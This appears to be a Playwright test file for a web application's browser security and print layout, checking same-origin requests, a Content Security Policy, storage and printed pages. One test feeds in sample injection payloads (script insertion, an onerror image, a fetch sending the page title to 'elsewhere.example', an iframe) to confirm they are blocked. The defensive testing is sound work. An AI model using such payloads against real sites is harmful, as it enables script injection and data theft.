"""What the browser does on its own: no request to anybody else, nothing that the policy stops, nothing kept."""

from __future__ import annotations

from typing import Any

import pytest

from ..web.parts import BOTH
from .agency import Agency
from .conftest import Opener, log_in
from .states import STATES, USUAL


@pytest.mark.parametrize("state", USUAL)
def test_every_request_is_to_our_own_origin_and_none_is_refused(new_page: Opener, agency: Agency, address: str,
                                                                state: str) -> None:
    page = new_page()
    asked: list[str] = []
    said: list[str] = []
    page.context.on("request", lambda request: asked.append(request.url))
    page.on("console", lambda message: said.append(message.text) if "Content Security Policy" in message.text else None)
    page.on("pageerror", lambda error: said.append(str(error)))
    STATES[state](page, agency)
    assert asked and not [url for url in asked if not url.startswith(address)]
    assert not said, "a script failed, or the policy stopped something"


@pytest.mark.parametrize("attack", [
    "document.body.append(Object.assign(document.createElement('script'), {textContent: 'window.hacked = 1'}))",
    "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.hacked = 1\">')",
    "fetch('https://elsewhere.example/?' + document.title).then(() => { window.hacked = 1 }, () => {})",
    "document.body.append(Object.assign(document.createElement('iframe'), {src: 'https://elsewhere.example/'}))"])
def test_what_is_smuggled_into_a_page_does_nothing(new_page: Opener, address: str, attack: str) -> None:
    page = new_page()
    asked: list[str] = []
    page.goto("/")
    page.context.on("request", lambda request: asked.append(request.url))
    page.evaluate("words => { try { (0, eval)(words) } catch { /* eval is refused as well */ } }", attack)
    assert page.evaluate("window.hacked") is None
    assert not [url for url in asked if "elsewhere" in url]


def test_nothing_is_kept_in_the_browser_but_cookies(new_page: Opener) -> None:
    page = new_page()
    log_in(page, BOTH)
    page.goto("/help")
    assert page.evaluate("[localStorage.length, sessionStorage.length]") == [0, 0]
    assert page.evaluate("navigator.serviceWorker.getRegistrations().then(all => all.length)") == 0
    assert page.evaluate("document.cookie") == "", "no script can read one"


@pytest.mark.parametrize("state", ["payments_made_open", "balances", "statement_payor", "help", "home"])
def test_a_printed_page_has_no_controls_and_nothing_white_on_white(new_page: Opener, agency: Agency,
                                                                   state: str) -> None:
    page = new_page()
    STATES[state](page, agency)
    page.emulate_media(media="print")
    for control in (".usa-skipnav", ".exit", ".language", ".main-nav", ".session-end"):
        assert not any(one.is_visible() for one in page.locator(control).all()), control
    white: Any = page.evaluate("""() => [...document.querySelectorAll('body *')].filter(one =>
      one.checkVisibility() && [...one.childNodes].some(n => n.nodeType === 3 && n.data.trim())
      && getComputedStyle(one).color === 'rgb(255, 255, 255)').map(one => one.outerHTML.slice(0, 90))""")
    assert white == []
